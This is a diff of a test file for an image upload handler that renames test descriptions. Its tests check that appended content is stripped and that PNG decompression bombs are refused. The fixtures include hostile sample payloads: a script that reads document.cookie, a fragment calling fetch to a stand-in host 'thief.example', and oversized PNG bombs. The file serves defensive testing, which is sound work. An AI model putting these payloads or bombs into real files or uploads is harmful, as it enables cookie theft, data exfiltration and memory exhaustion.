@@ -87,7 +87,7 @@ describe('a picture', () => {
   })
 })
 
-describe('anything appended to a picture is removed:', () => {
+describe('anything added to the file of a picture is removed:', () => {
   test.each([
     ['a web page', Buffer.from('<html><script>alert(document.cookie)</script></html>')],
     ['a script', Buffer.from('*/=1;fetch("https://thief.example");/*')],
@@ -151,7 +151,7 @@ describe('refused because it is not a photo:', () => {
 })
 
 describe('refused as too large:', () => {
-  test('a picture of a few bytes that would fill the memory when unpacked', async () => {
+  test('a small file whose picture would fill the memory when unpacked', async () => {
     const bomb = pngBomb(40_000, 40_000)
     expect(bomb.length).toBeLessThan(300_000)
     const { code, message } = await refused(bomb)
@@ -164,7 +164,7 @@ describe('refused as too large:', () => {
     expect(process.memoryUsage.rss() - before).toBeLessThan(100e6)
   })
 
-  test('endless pictures: a picture with a single column of pixels is refused after reading only its header', async () => {
+  test('a very long picture with a single column or a single row of pixels', async () => {
     const { code, message } = await refused(pngBomb(1, 2_000_000))
     expect([code, message]).toEqual([
       'photo.tooLarge',
@@ -213,7 +213,7 @@ test('when a client leaves while other pictures are drawn, its picture leaves th
   await expect(pictureOf(uploadOf(large), gone.signal)).rejects.toMatchObject({ code: 'request.abandoned' })
 })
 
-test('a missing name leaves no gap in the sentence', async () => {
+test('the message about an upload without a file name begins with "The file"', async () => {
   const outcome: unknown = await pictureOf(uploadOf(randomBytes(9), ' ')).catch((error: unknown) => error)
   expect((outcome as Refusal).message).toMatch(/^The file cannot be used as a photo/)
 })
